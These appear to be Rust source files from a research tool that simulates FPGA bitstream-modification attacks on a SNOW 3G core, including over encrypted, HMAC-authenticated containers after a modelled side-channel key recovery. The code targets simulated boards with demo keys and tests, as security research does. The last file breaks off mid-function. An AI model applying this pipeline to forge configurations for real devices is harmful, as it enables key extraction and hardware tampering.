                for (lane_idx, lane) in lanes.iter().enumerate() {
                    if lane[cell_idx] == base {
                        broadcast |= 1 << lane_idx;
                    }
                }
                let rest =
                    || lanes.iter().enumerate().filter(move |(i, _)| (broadcast >> i) & 1 == 0);
                if cell.o5.is_none() {
                    let mut planes = Box::new([0u64; 64]);
                    let table = base.o6();
                    for (r, plane) in planes.iter_mut().enumerate() {
                        if table.eval(r as u8) {
                            *plane |= broadcast;
                        }
                    }
                    for (lane_idx, lane) in rest() {
                        let table = lane[cell_idx].o6();
                        for (r, plane) in planes.iter_mut().enumerate() {
                            *plane |= u64::from(table.eval(r as u8)) << lane_idx;
                        }
                    }
                    GangLut::Single { planes }
                } else {
                    let mut o5 = Box::new([0u64; 32]);
                    let mut o6 = Box::new([0u64; 32]);
                    let (b5, b6) = (base.o5(), base.o6_fractured());
                    for r in 0..32u8 {
                        o5[usize::from(r)] |= u64::from(b5.eval(r)) * broadcast;
                        o6[usize::from(r)] |= u64::from(b6.eval(r)) * broadcast;
                    }
                    for (lane_idx, lane) in rest() {
                        let t5 = lane[cell_idx].o5();
                        let t6 = lane[cell_idx].o6_fractured();
                        for r in 0..32u8 {
                            o5[usize::from(r)] |= u64::from(t5.eval(r)) << lane_idx;
                            o6[usize::from(r)] |= u64::from(t6.eval(r)) << lane_idx;
                        }
                    }
                    GangLut::Fractured { o5, o6 }
                }
            })
            .collect();
        // Power-up state is lane-independent: FF INITs and ties come
        // from the static database, so a set bit fills every lane.
        let mut values = vec![0u64; fpga.net_count];
        for ff in &db.ffs {
            if ff.init {
                values[ff.q.index()] = u64::MAX;
            }
        }
        for &(net, v) in &db.ties {
            if v {
                values[net.index()] = u64::MAX;
            }
        }
        let latch = vec![0u64; db.ffs.len()];
        Self { fpga, lanes: lanes.len(), luts, values, latch, clean: false, cycle: 0 }
    }

    /// Number of active lanes (1..=[`GANG_LANES`]).
    #[must_use]
    pub fn lanes(&self) -> usize {
        self.lanes
    }

    /// Clock cycles executed.
    #[must_use]
    pub fn cycle(&self) -> u64 {
        self.cycle
    }

    /// Drives a primary input net on every lane at once: bit *i* of
    /// `mask` is lane *i*'s value (use `u64::MAX` to assert the net
    /// everywhere).
    pub fn set_input(&mut self, net: NetId, mask: u64) {
        self.values[net.index()] = mask;
        self.clean = false;
    }

    /// The current value of a net on one lane (after the last
    /// evaluation).
    #[must_use]
    pub fn net(&self, lane: usize, net: NetId) -> bool {
        debug_assert!(lane < self.lanes);
        (self.values[net.index()] >> lane) & 1 == 1
    }

    /// Reads up to 32 nets on one lane as a word, LSB first — the
    /// gang counterpart of `ConfiguredFpga::word`.
    #[must_use]
    pub fn word(&self, lane: usize, nets: &[NetId]) -> u32 {
        nets.iter().enumerate().fold(0u32, |acc, (i, &n)| acc | (u32::from(self.net(lane, n)) << i))
    }

    /// One word-wide combinational pass over the shared topological
    /// order: lane-for-lane the same computation as the scalar
    /// `evaluate`.
    fn evaluate(&mut self) {
        let db = &self.fpga.db;
        for &step in &self.fpga.order {
            match step {
                EvalStep::Lut(i) => {
                    let cell = &db.luts[i];
                    let pin = |p: usize| {
                        // Unconnected pins read low on every lane,
                        // matching the scalar `addr & 0x3F` masking.
                        cell.inputs.get(p).map_or(0u64, |net| self.values[net.index()])
                    };
                    match &self.luts[i] {
                        GangLut::Single { planes } => {
                            self.values[cell.o6.index()] = mux_tree(&planes[..], pin);
                        }
                        GangLut::Fractured { o5, o6 } => {
                            let o5_word = mux_tree(&o5[..], pin);
                            let o6_word = mux_tree(&o6[..], pin);
                            self.values[cell.o5.expect("fractured cell has o5").index()] = o5_word;
                            self.values[cell.o6.index()] = o6_word;
                        }
                    }
                }
                EvalStep::Bram(i) => {
                    // Each lane addresses the shared ROM
                    // independently, so the lookup is a per-lane
                    // gather; the 32 data bits are then scattered
                    // back as lane words.
                    let cell = &db.brams[i];
                    let mut data_words = [0u64; 32];
                    debug_assert!(cell.data.len() <= data_words.len());
                    for lane in 0..self.lanes {
                        let mut a = 0usize;
                        for (p, net) in cell.addr.iter().enumerate() {
                            if (self.values[net.index()] >> lane) & 1 == 1 {
                                a |= 1 << p;
                            }
                        }
                        let word = cell.table[a];
                        for (bit, slot) in data_words.iter_mut().enumerate().take(cell.data.len()) {
                            *slot |= u64::from((word >> bit) & 1) << lane;
                        }
                    }
                    for (bit, net) in cell.data.iter().enumerate() {
                        self.values[net.index()] = data_words[bit];
                    }
                }
            }
        }
    }

    /// Runs one clock cycle on every lane with the current input
    /// values — same two-phase latch and laziness contract as the
    /// scalar `step`.
    pub fn step(&mut self) {
        if !self.clean {
            self.evaluate();
        }
        let db = &self.fpga.db;
        for (slot, ff) in self.latch.iter_mut().zip(&db.ffs) {
            *slot = self.values[ff.d.index()];
        }
        for (slot, ff) in self.latch.iter().zip(&db.ffs) {
            self.values[ff.q.index()] = *slot;
        }
        self.cycle += 1;
        self.evaluate();
        self.clean = true;
    }

    /// Runs `n` clock cycles.
    pub fn run(&mut self, n: usize) {
        for _ in 0..n {
            self.step();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fabric::{FfCell, LutCell, RoutingDb};
    use crate::geom::{Geometry, SiteId};
    use bitstream::{codec, BitstreamBuilder, FrameData};
    use netlist::NodeId;

    fn n(i: u32) -> NetId {
        NodeId(i)
    }

    /// The fabric test device: one XOR LUT fed by a toggle FF and a
    /// hold FF.
    fn tiny() -> Fpga {
        let geometry = Geometry::with_columns(2);
        let db = RoutingDb {
            luts: vec![
                LutCell {
                    site: SiteId { col: 0, row: 0, lut: 0 },
                    inputs: vec![n(0), n(1)],
                    o6: n(2),
                    o5: None,
                },
                LutCell {
                    site: SiteId { col: 1, row: 3, lut: 2 },
                    inputs: vec![n(0)],
                    o6: n(3),
                    o5: None,
                },
            ],
            ffs: vec![
                FfCell { q: n(0), d: n(3), init: false },
                FfCell { q: n(1), d: n(1), init: true },
            ],
            brams: vec![],
            inputs: vec![],
            ties: vec![],
        };
        Fpga::new(geometry, db)
    }

    fn bitstream_for(fpga: &Fpga, lut0: u64, lut1: u64) -> Bitstream {
        let mut frames = FrameData::new(fpga.geometry().frame_count());
        let loc0 = fpga.geometry().lut_location(SiteId { col: 0, row: 0, lut: 0 });
        let loc1 = fpga.geometry().lut_location(SiteId { col: 1, row: 3, lut: 2 });
        codec::write_lut(frames.as_mut_bytes(), loc0, DualOutputInit::new(lut0));
        codec::write_lut(frames.as_mut_bytes(), loc1, DualOutputInit::new(lut1));
        BitstreamBuilder::new(frames).build()
    }

    #[test]
    fn lanes_track_their_own_configuration() {
        let fpga = tiny();
        let xor = boolfn::TruthTable::var(6, 1).xor(boolfn::TruthTable::var(6, 2)).bits();
        let and = boolfn::TruthTable::var(6, 1).and(boolfn::TruthTable::var(6, 2)).bits();
        let inv = boolfn::TruthTable::var(6, 1).not().bits();
        let lane_inits = [xor, and, 0u64];
        let streams: Vec<Bitstream> =
            lane_inits.iter().map(|&i| bitstream_for(&fpga, i, inv)).collect();
        let refs: Vec<&Bitstream> = streams.iter().collect();
        let mut gang = fpga.program_gang(&refs).expect("programs");
        let mut scalars: Vec<_> =
            streams.iter().map(|bs| fpga.program(bs).expect("programs")).collect();
        for _ in 0..8 {
            gang.step();
            for (lane, dev) in scalars.iter_mut().enumerate() {
                dev.step();
                for net in 0..4u32 {
                    assert_eq!(
                        gang.net(lane, n(net)),
                        dev.net(n(net)),
                        "lane {lane} net {net} cycle {}",
                        gang.cycle()
                    );
                }
            }
        }
    }

    #[test]
    fn gang_word_matches_scalar_word() {
        let fpga = tiny();
        let xor = boolfn::TruthTable::var(6, 1).xor(boolfn::TruthTable::var(6, 2)).bits();
        let inv = boolfn::TruthTable::var(6, 1).not().bits();
        let bs = bitstream_for(&fpga, xor, inv);
        let mut gang = fpga.program_gang(&[&bs]).expect("programs");
        let mut dev = fpga.program(&bs).expect("programs");
        let nets = [n(2), n(3), n(0)];
        for _ in 0..5 {
            gang.step();
            dev.step();
            assert_eq!(gang.word(0, &nets), dev.word(&nets));
        }
    }

    #[test]
    fn bad_lane_aborts_program_gang() {
        let fpga = tiny();
        let inv = boolfn::TruthTable::var(6, 1).not().bits();
        let good = bitstream_for(&fpga, 0, inv);
        let mut bad = bitstream_for(&fpga, 0, inv);
        let range = bad.fdri_data_range().expect("fdri");
        bad.as_mut_bytes()[range.start + 1] ^= 0x10; // break the CRC
        assert!(fpga.program_gang(&[&good, &bad]).is_err());
    }

    #[test]
    #[should_panic(expected = "lanes")]
    fn empty_gang_panics() {
        let fpga = tiny();
        let _ = GangConfiguredFpga::with_inits(&fpga, &[]);
    }
}
