//! A victim board whose configuration port only accepts sealed
//! containers — the Starbleed setting (Ender et al.): the attacker
//! never hands the device a plaintext bitstream, only a Fig. 1
//! AES-256-CBC container, and the device decrypts, checks the
//! embedded `K_A` and the HMAC, and then programs the fabric.
//!
//! This is the ground-truth device model for the encrypted attack
//! path: the patch oracle in `bitstream::secure::patch` must produce
//! containers this board accepts, and its seekable verifier must
//! reject exactly what this board rejects. Tests pin both directions.

use core::fmt;

use bitstream::{Bitstream, OpenSecureError, SecureBitstream};

use crate::board::{BoardError, Snow3gBoard};

/// An error from a sealed-container load.
#[derive(Debug)]
#[non_exhaustive]
pub enum SealedLoadError {
    /// The container failed decryption, structural validation, or the
    /// HMAC check — reported before the fabric sees a single frame
    /// (the device's `BOOTSTS` path).
    Container(OpenSecureError),
    /// The container opened but the decrypted bitstream was refused
    /// by the configuration engine (bad CRC, wrong size).
    Board(BoardError),
}

impl fmt::Display for SealedLoadError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SealedLoadError::Container(e) => write!(f, "container rejected: {e}"),
            SealedLoadError::Board(e) => write!(f, "decrypted bitstream refused: {e}"),
        }
    }
}

impl std::error::Error for SealedLoadError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            SealedLoadError::Container(e) => Some(e),
            SealedLoadError::Board(e) => Some(e),
        }
    }
}

/// A SNOW 3G board with bitstream encryption enabled: the on-chip
/// decryptor holds `K_E` (in eFUSE/BBRAM) and the configuration port
/// refuses anything but a valid sealed container.
pub struct SealedBoard {
    inner: Snow3gBoard,
    k_enc: [u8; 32],
}

impl fmt::Debug for SealedBoard {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Never print the device key.
        write!(f, "SealedBoard({:?})", self.inner)
    }
}

impl SealedBoard {
    /// Wraps `board` with an on-chip decryption key.
    #[must_use]
    pub fn new(board: Snow3gBoard, k_enc: [u8; 32]) -> Self {
        Self { inner: board, k_enc }
    }

    /// The underlying plaintext board (ground truth, tests only).
    #[must_use]
    pub fn board(&self) -> &Snow3gBoard {
        &self.inner
    }

    /// The sealed golden container as the attacker extracts it from
    /// external flash: ciphertext only — this is all the encrypted
    /// attack path is allowed to start from.
    #[must_use]
    pub fn extract_sealed(&self, k_auth: &[u8; 32], iv: [u8; 16]) -> SecureBitstream {
        SecureBitstream::seal(&self.inner.extract_bitstream(), &self.k_enc, k_auth, iv)
    }

    /// Full device-accurate load: decrypt the whole container, verify
    /// structure + `K_A` + HMAC, then program the fabric and collect
    /// `words` keystream words.
    ///
    /// # Errors
    ///
    /// [`SealedLoadError::Container`] if the container fails any
    /// check; [`SealedLoadError::Board`] if the decrypted bitstream
    /// is refused by the configuration engine.
    pub fn load_sealed(
        &self,
        sealed: &SecureBitstream,
        words: usize,
    ) -> Result<Vec<u32>, SealedLoadError> {
        let opened = sealed.open(&self.k_enc).map_err(SealedLoadError::Container)?;
        self.inner.generate_keystream(&opened.bitstream, words).map_err(SealedLoadError::Board)
    }

    /// Partial reconfiguration through the encrypted port: the device
    /// decrypts and authenticates the container exactly as for a full
    /// load, then hands the body to the partial-reconfiguration
    /// engine — the Starbleed-setting analogue of
    /// [`Snow3gBoard::generate_keystream_partial`].
    ///
    /// # Errors
    ///
    /// [`SealedLoadError::Container`] if the container fails any
    /// check; [`SealedLoadError::Board`] if the decrypted partial
    /// stream is refused (or no full load established a base).
    pub fn load_sealed_partial(
        &self,
        sealed: &SecureBitstream,
        words: usize,
    ) -> Result<Vec<u32>, SealedLoadError> {
        let opened = sealed.open(&self.k_enc).map_err(SealedLoadError::Container)?;
        let partial =
            bitstream::partial::PartialBitstream::from_bytes(opened.bitstream.into_bytes());
        self.inner.generate_keystream_partial(&partial, words).map_err(SealedLoadError::Board)
    }

    /// Device-accurate open without running the fabric: what bitstream
    /// would this container program? Used by tests to check the patch
    /// oracle's seekable verifier against the real device behaviour.
    ///
    /// # Errors
    ///
    /// [`OpenSecureError`] exactly as the device would report it.
    pub fn open_sealed(&self, sealed: &SecureBitstream) -> Result<Bitstream, OpenSecureError> {
        Ok(sealed.open(&self.k_enc)?.bitstream)
    }
}
