//! The encrypted attack path: every oracle query goes through the
//! Fig. 1 container.
//!
//! In the Starbleed setting (Ender et al., PAPERS.md) the attacker
//! only ever holds ciphertext: the golden bitstream is extracted from
//! flash as a sealed container, `K_E` comes from the side channel,
//! `K_A` falls out of the decrypted stream, and every candidate load
//! must be re-MACed and re-encrypted before the device will take it.
//! [`EncryptedOracle`] packages that pipeline as a
//! [`KeystreamOracle`], so the whole existing stack — `Attack`, the
//! resilience layer, batching, fleet sessions — runs over ciphertext
//! without modification:
//!
//! 1. a candidate bitstream from the attack loop is turned into a
//!    sealed container by the seekable patch oracle
//!    ([`PatchOracle::patch_bitstream`]): O(touched blocks) of AES +
//!    SHA work, not O(container);
//! 2. the device-side verifier ([`PatchOracle::open_patched`])
//!    decrypts/verifies the container exactly as the board would and
//!    yields the plaintext the fabric sees;
//! 3. the inner oracle (ideal or unreliable board) loads that
//!    plaintext and returns keystream.
//!
//! Because step 2 reproduces the candidate byte-for-byte and the
//! fault models are counter-keyed by (seed, load index), the
//! encrypted path produces *bit-identical* keystreams, fault traces
//! and load accounting to the plaintext path — the differential
//! property `tests/encrypted_equivalence.rs` pins.

use core::fmt;

use bitstream::{Bitstream, PartialBitstream, PatchOracle, PatchStats, ScaOracle, SecureBitstream};

use crate::oracle::{KeystreamOracle, OracleError};
use crate::telemetry::{names, Telemetry};

/// The demo on-chip AES-256 key (`K_E`) used by `--encrypted` runs,
/// the example, and the tests. In the modelled system this lives in
/// eFUSE/BBRAM and reaches the attacker only via the side channel.
pub const DEMO_K_ENC: [u8; 32] = *b"on-chip AES-256 bitstream key!!!";

/// The demo vendor HMAC key (`K_A`). Fig. 1 stores it *inside* the
/// encrypted stream, which is the design flaw the paper exploits:
/// the attacker never needs to guess it.
pub const DEMO_K_AUTH: [u8; 32] = *b"vendor's HMAC-SHA-256 key (K_A)!";

/// The public CBC IV the demo containers are sealed with.
pub const DEMO_IV: [u8; 16] = *b"public CBC iv 16";

/// Power traces the modelled side-channel attack needs before it
/// yields `K_E` (~10⁴–10⁵ in the attacks the paper cites).
pub const SCA_TRACES_REQUIRED: u32 = 40_000;

/// Seals `golden` into the demo container — the vendor-side step that
/// produces what the attacker later extracts from flash.
#[must_use]
pub fn demo_seal(golden: &Bitstream) -> SecureBitstream {
    SecureBitstream::seal(golden, &DEMO_K_ENC, &DEMO_K_AUTH, DEMO_IV)
}

/// The demo side-channel oracle guarding `K_E`.
#[must_use]
pub fn demo_sca() -> ScaOracle {
    ScaOracle::new(DEMO_K_ENC, SCA_TRACES_REQUIRED)
}

/// The attacker's entry into the ciphertext world: spend `traces`
/// power traces against `sca`, and — if the side channel yields
/// `K_E` — build the seekable patch oracle over the sealed golden
/// container.
///
/// # Errors
///
/// [`crate::AttackError::Exhausted`] (with a fresh checkpoint and a
/// [`crate::resilient::ResilienceError::ScaTracesExhausted`] source)
/// when the trace budget is too small: nothing was decrypted, so the
/// checkpoint is empty and re-running with a raised budget resumes
/// from scratch at identical totals. [`crate::AttackError::Oracle`]
/// when the container itself is rejected under the recovered key.
pub fn open_with_sca(
    sealed: &SecureBitstream,
    sca: &ScaOracle,
    traces: u32,
) -> Result<PatchOracle, crate::AttackError> {
    let Some(k_enc) = sca.extract_key(traces) else {
        return Err(crate::AttackError::Exhausted {
            checkpoint: Box::new(crate::AttackCheckpoint::new()),
            source: crate::resilient::ResilienceError::ScaTracesExhausted {
                collected: traces,
                needed: sca.traces_needed(),
            },
        });
    };
    PatchOracle::new(sealed, &k_enc).map_err(|e| {
        crate::AttackError::Oracle(OracleError::Rejected(format!(
            "sealed golden container rejected: {e}"
        )))
    })
}

/// A [`KeystreamOracle`] adapter that ships every query through the
/// seekable CBC patch oracle: candidate plaintext → sealed container
/// → device-side open → inner oracle load.
///
/// All state/fault-planning capabilities delegate to the inner
/// oracle, so resilience, batching and journal resume behave exactly
/// as on the plaintext path.
pub struct EncryptedOracle<'a> {
    inner: &'a dyn KeystreamOracle,
    patcher: PatchOracle,
    telemetry: Telemetry,
}

impl fmt::Debug for EncryptedOracle<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "EncryptedOracle({:?})", self.patcher)
    }
}

impl<'a> EncryptedOracle<'a> {
    /// Wraps `inner` so every load goes through `patcher`'s
    /// seal/verify pipeline.
    #[must_use]
    pub fn new(inner: &'a dyn KeystreamOracle, patcher: PatchOracle) -> Self {
        Self { inner, patcher, telemetry: Telemetry::off() }
    }

    /// Attaches a telemetry recorder; encrypted-path counters
    /// (`encrypted.*`) are accumulated per shipped load.
    #[must_use]
    pub fn with_telemetry(mut self, telemetry: Telemetry) -> Self {
        self.telemetry = telemetry;
        self
    }

    /// The patch oracle (its golden plaintext is the attack's golden
    /// bitstream — recovered from the container, not handed over).
    #[must_use]
    pub fn patcher(&self) -> &PatchOracle {
        &self.patcher
    }

    /// Cumulative seal/verify work statistics.
    #[must_use]
    pub fn patch_stats(&self) -> PatchStats {
        self.patcher.stats()
    }

    /// One full trip through the container: patch-seal the candidate,
    /// then open it exactly as the device would. The returned
    /// plaintext is what the fabric programs.
    fn ship(&self, bitstream: &Bitstream) -> Result<Bitstream, OracleError> {
        let before = self.patcher.stats();
        let sealed = self
            .patcher
            .patch_bitstream(bitstream)
            .map_err(|e| OracleError::Rejected(format!("patch oracle refused edit: {e}")))?;
        let opened = self
            .patcher
            .open_patched(&sealed)
            .map_err(|e| OracleError::Rejected(format!("device rejected container: {e}")))?;
        let after = self.patcher.stats();
        self.telemetry.incr(names::ENCRYPTED_LOADS, 1);
        self.telemetry.incr(
            names::ENCRYPTED_BLOCKS_REENCRYPTED,
            after.blocks_reencrypted - before.blocks_reencrypted,
        );
        self.telemetry
            .incr(names::ENCRYPTED_BLOCKS_REUSED, after.blocks_reused - before.blocks_reused);
        self.telemetry.incr(
            names::ENCRYPTED_BLOCKS_DECRYPTED,
            after.blocks_decrypted - before.blocks_decrypted,
        );
        self.telemetry.incr(names::ENCRYPTED_MAC_BYTES, after.mac_bytes - before.mac_bytes);
        Ok(opened)
    }

    /// One partial-reconfiguration trip through the container: the
    /// forged frame-delta is sealed into a *fresh* (short) Fig. 1
    /// container, then opened exactly as the device's encrypted
    /// partial port would. The sealed container is a few frames long,
    /// so the crypto work is O(delta), not O(full configuration) —
    /// the encrypted path's share of the partial-loading win.
    fn ship_partial(&self, partial: &PartialBitstream) -> Result<PartialBitstream, OracleError> {
        let sealed = self.patcher.seal_fresh(partial.as_bytes());
        let body = self
            .patcher
            .open_fresh(&sealed)
            .map_err(|e| OracleError::Rejected(format!("device rejected container: {e}")))?;
        self.telemetry.incr(names::ENCRYPTED_LOADS, 1);
        self.telemetry
            .incr(names::ENCRYPTED_BLOCKS_REENCRYPTED, (sealed.ciphertext.len() / 16) as u64);
        self.telemetry
            .incr(names::ENCRYPTED_BLOCKS_DECRYPTED, (sealed.ciphertext.len() / 16) as u64);
        self.telemetry.incr(names::ENCRYPTED_MAC_BYTES, partial.len() as u64);
        Ok(PartialBitstream::from_bytes(body))
    }

    /// Ships a whole batch, short-circuiting per lane on container
    /// rejection.
    fn ship_batch(
        &self,
        bitstreams: &[Bitstream],
    ) -> Result<Vec<Bitstream>, Vec<Result<Bitstream, OracleError>>> {
        let shipped: Vec<Result<Bitstream, OracleError>> =
            bitstreams.iter().map(|bs| self.ship(bs)).collect();
        if shipped.iter().all(Result::is_ok) {
            Ok(shipped.into_iter().filter_map(Result::ok).collect())
        } else {
            Err(shipped)
        }
    }
}

impl KeystreamOracle for EncryptedOracle<'_> {
    fn keystream(&self, bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError> {
        let opened = self.ship(bitstream)?;
        self.inner.keystream(&opened, words)
    }

    fn keystream_batch(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        match self.ship_batch(bitstreams) {
            Ok(opened) => self.inner.keystream_batch(&opened, words),
            // A refused container occupies its lane as an error; the
            // accepted lanes still run (serially, preserving order).
            Err(shipped) => shipped
                .into_iter()
                .map(|r| r.and_then(|bs| self.inner.keystream(&bs, words)))
                .collect(),
        }
    }

    fn state_snapshot(&self) -> Option<Vec<u8>> {
        self.inner.state_snapshot()
    }

    fn restore_state(&self, state: &[u8]) -> Result<(), OracleError> {
        self.inner.restore_state(state)
    }

    fn fault_planning(&self) -> bool {
        self.inner.fault_planning()
    }

    fn plan_read(&self, ahead: u64, words: usize) -> Option<fpga_sim::ReadPlan> {
        self.inner.plan_read(ahead, words)
    }

    fn commit_reads(&self, plans: &[fpga_sim::ReadPlan]) {
        self.inner.commit_reads(plans);
    }

    fn keystream_batch_clean(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        match self.ship_batch(bitstreams) {
            Ok(opened) => self.inner.keystream_batch_clean(&opened, words),
            Err(shipped) => shipped
                .into_iter()
                .map(|r| {
                    r.and_then(|bs| {
                        self.inner
                            .keystream_batch_clean(core::slice::from_ref(&bs), words)
                            .pop()
                            .unwrap_or(Err(OracleError::ShortRead { got: 0, want: words }))
                    })
                })
                .collect(),
        }
    }

    fn resolve_plan(
        &self,
        plan: &fpga_sim::ReadPlan,
        clean: Result<Vec<u32>, OracleError>,
        want: usize,
    ) -> Result<Vec<u32>, OracleError> {
        self.inner.resolve_plan(plan, clean, want)
    }

    fn partial_capable(&self) -> bool {
        self.inner.partial_capable()
    }

    fn keystream_partial(
        &self,
        partial: &PartialBitstream,
        words: usize,
    ) -> Result<Vec<u32>, OracleError> {
        let opened = self.ship_partial(partial)?;
        self.inner.keystream_partial(&opened, words)
    }

    fn keystream_partial_batch_clean(
        &self,
        partials: &[PartialBitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        let shipped: Vec<Result<PartialBitstream, OracleError>> =
            partials.iter().map(|p| self.ship_partial(p)).collect();
        if shipped.iter().all(Result::is_ok) {
            let opened: Vec<PartialBitstream> =
                shipped.into_iter().filter_map(Result::ok).collect();
            self.inner.keystream_partial_batch_clean(&opened, words)
        } else {
            // A refused container breaks the serial delta chain for
            // every later lane, exactly as a refused partial stream
            // would on the device.
            let mut out = Vec::with_capacity(partials.len());
            let mut broken = false;
            for r in shipped {
                match r {
                    Ok(p) if !broken => out.extend(
                        self.inner.keystream_partial_batch_clean(core::slice::from_ref(&p), words),
                    ),
                    Ok(_) => out.push(Err(OracleError::Rejected(
                        "partial chain broken by an earlier refused container".into(),
                    ))),
                    Err(e) => {
                        broken = true;
                        out.push(Err(e));
                    }
                }
            }
            out
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use fpga_sim::{ImplementOptions, Snow3gBoard};
    use netlist::snow3g_circuit::Snow3gCircuitConfig;
    use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

    fn board() -> Snow3gBoard {
        Snow3gBoard::build(
            Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
            &ImplementOptions::default(),
        )
        .expect("board")
    }

    #[test]
    fn encrypted_oracle_matches_plaintext_oracle() {
        let b = board();
        let golden = b.extract_bitstream();
        let sealed = demo_seal(&golden);
        let patcher = PatchOracle::new(&sealed, &DEMO_K_ENC).expect("container opens");
        let enc = EncryptedOracle::new(&b, patcher);

        // Golden query: identical keystream through the container.
        let plain = b.keystream(&golden, 4).expect("plaintext path");
        let over_ct = enc.keystream(&golden, 4).expect("encrypted path");
        assert_eq!(plain, over_ct);

        // A modified candidate (CRC-repaired via the payload editor).
        let mut variant = golden.clone();
        let range = variant.fdri_data_range().expect("payload");
        variant.as_mut_bytes()[range.start + 512] ^= 0x40;
        variant.recompute_crc();
        let plain = b.keystream(&variant, 4).expect("plaintext path");
        let over_ct = enc.keystream(&variant, 4).expect("encrypted path");
        assert_eq!(plain, over_ct);
        assert!(enc.patch_stats().patches >= 1);
    }

    #[test]
    fn batch_matches_serial_through_the_container() {
        let b = board();
        let golden = b.extract_bitstream();
        let sealed = demo_seal(&golden);
        let patcher = PatchOracle::new(&sealed, &DEMO_K_ENC).expect("container opens");
        let enc = EncryptedOracle::new(&b, patcher);
        let mut variant = golden.clone();
        let range = variant.fdri_data_range().expect("payload");
        variant.as_mut_bytes()[range.start + 64] ^= 0x08;
        variant.recompute_crc();
        let batch = vec![golden.clone(), variant, golden.clone()];
        let batched = enc.keystream_batch(&batch, 3);
        for (i, bs) in batch.iter().enumerate() {
            let serial = enc.keystream(bs, 3).expect("serial");
            assert_eq!(batched[i].as_ref().expect("lane ok"), &serial, "lane {i}");
        }
    }

    #[test]
    fn wrong_mac_key_surfaces_as_typed_rejection() {
        let b = board();
        let golden = b.extract_bitstream();
        let sealed = demo_seal(&golden);
        let patcher = PatchOracle::new(&sealed, &DEMO_K_ENC)
            .expect("container opens")
            .with_mac_key([0x5A; 32]);
        let enc = EncryptedOracle::new(&b, patcher);
        let mut variant = golden.clone();
        let range = variant.fdri_data_range().expect("payload");
        variant.as_mut_bytes()[range.start + 128] ^= 0x01;
        variant.recompute_crc();
        let err = enc.keystream(&variant, 1).expect_err("bad K_A must be refused");
        assert!(matches!(&err, OracleError::Rejected(why) if why.contains("hmac")), "{err}");
        assert!(!err.is_transient(), "a re-MAC failure is deterministic");
    }
}
