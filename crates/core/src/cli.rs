//! The command-line surface of the tool: text-mode operations over
//! bitstream files. The `bitmod` binary is a thin wrapper; the logic
//! lives here so it can be tested.
//!
//! The paper describes the artifact as "a tool which automatically
//! finds a k-input LUT implementing a given k-variable Boolean
//! function and all Boolean functions within the same P equivalence
//! class in the bitstream ... intended to assist in evaluating
//! resistance of FPGAs to reverse engineering and bitstream
//! modification".

use core::fmt;

use boolfn::expr::Expr;
use boolfn::TruthTable;

use bitstream::{Bitstream, Packet, FRAME_BYTES};

use crate::candidates::Catalogue;
use crate::countermeasure::xor_half_scan;
use crate::findlut::{LutHit, ScanConfigError, Scanner};

/// An error from a CLI operation.
#[derive(Debug)]
pub enum CliError {
    /// The function argument was neither a catalogue name nor a
    /// parsable formula.
    BadFunction {
        /// The offending argument.
        arg: String,
        /// The parser's complaint.
        parse: boolfn::expr::ParseExprError,
    },
    /// The bitstream has no FDRI payload.
    NoPayload,
    /// Malformed command-line usage.
    Usage(String),
    /// The requested scan configuration was invalid.
    Config(ScanConfigError),
}

impl fmt::Display for CliError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CliError::BadFunction { arg, parse } => {
                write!(f, "'{arg}' is not a candidate name or formula ({parse})")
            }
            CliError::NoPayload => write!(f, "bitstream has no FDRI payload"),
            CliError::Usage(msg) => write!(f, "usage: {msg}"),
            CliError::Config(e) => write!(f, "invalid scan configuration: {e}"),
        }
    }
}

impl std::error::Error for CliError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            CliError::BadFunction { parse, .. } => Some(parse),
            CliError::Config(e) => Some(e),
            _ => None,
        }
    }
}

impl From<ScanConfigError> for CliError {
    fn from(e: ScanConfigError) -> Self {
        CliError::Config(e)
    }
}

/// Resolves a function argument: a catalogue shape name (`f2`, `m0b`,
/// ...) or a formula over `a1..a6` (`"(a1^a2^a3) a4 a5 ~a6"`).
///
/// # Errors
///
/// Returns [`CliError::BadFunction`] if neither interpretation works.
pub fn resolve_function(arg: &str) -> Result<(String, TruthTable), CliError> {
    if let Some(shape) = Catalogue::full().shape(arg) {
        return Ok((format!("{} = {}", shape.name, shape.formula), shape.truth));
    }
    match arg.parse::<Expr>() {
        Ok(e) => Ok((format!("{e}"), e.truth_table(6))),
        Err(parse) => Err(CliError::BadFunction { arg: arg.to_string(), parse }),
    }
}

/// Serializes one [`LutHit`] as a stable single-line JSON record.
///
/// The field set and order are part of the CLI contract (consumers
/// may line-split and parse): `candidate`, `l`, `file_offset`,
/// `order`, `perm`, `init`.
#[must_use]
pub fn lut_hit_json(candidate: &str, file_offset: usize, hit: &LutHit) -> String {
    let perm: Vec<String> = hit.perm.as_slice().iter().map(u8::to_string).collect();
    format!(
        "{{\"candidate\":\"{}\",\"l\":{},\"file_offset\":{},\"order\":\"{:?}\",\"perm\":[{}],\"init\":\"{:#018x}\"}}",
        candidate.escape_default(),
        hit.l,
        file_offset,
        hit.order,
        perm.join(","),
        hit.init.init()
    )
}

/// `findlut`: searches a bitstream for a function's P class; returns a
/// printable report, or (with `json`) one JSON record per hit.
///
/// # Errors
///
/// Propagates argument and payload errors.
pub fn cmd_findlut(
    bs: &Bitstream,
    function: &str,
    d: usize,
    json: bool,
) -> Result<String, CliError> {
    let (label, truth) = resolve_function(function)?;
    let range = bs.fdri_data_range().ok_or(CliError::NoPayload)?;
    let payload = &bs.as_bytes()[range.clone()];
    let scanner = Scanner::builder().k(6).stride(d).candidate(truth).build()?;
    let t0 = std::time::Instant::now();
    let hits = scanner.scan(payload);
    let dt = t0.elapsed();
    let mut out = String::new();
    use fmt::Write;
    if json {
